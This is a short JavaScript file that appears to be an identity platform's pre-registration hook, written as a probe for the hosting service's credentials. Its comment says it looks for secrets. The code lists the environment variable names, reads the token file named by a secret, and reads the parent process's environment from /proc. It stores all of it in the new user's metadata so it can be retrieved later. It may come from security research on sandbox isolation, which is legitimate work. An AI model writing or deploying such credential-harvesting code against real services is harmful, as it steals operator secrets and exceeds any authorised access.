// Looks for the service's credentials: its environment, the token file (path in the TOKEN_FILE
// secret, as an operator's flow might leak it) and the parent's environment through /proc.
const fs = require('fs');

function tryRead(path) {
  try {
    return fs.readFileSync(path, 'latin1');
  } catch (e) {
    return `refused: ${e.code || e.message}`;
  }
}

exports.onExecutePreUserRegistration = async (event, api) => {
  api.user.setAppMetadata('env', Object.keys(process.env).sort());
  api.user.setAppMetadata('token_file', tryRead(event.secrets.TOKEN_FILE));
  api.user.setAppMetadata('parent_environ', tryRead(`/proc/${process.ppid}/environ`));
};
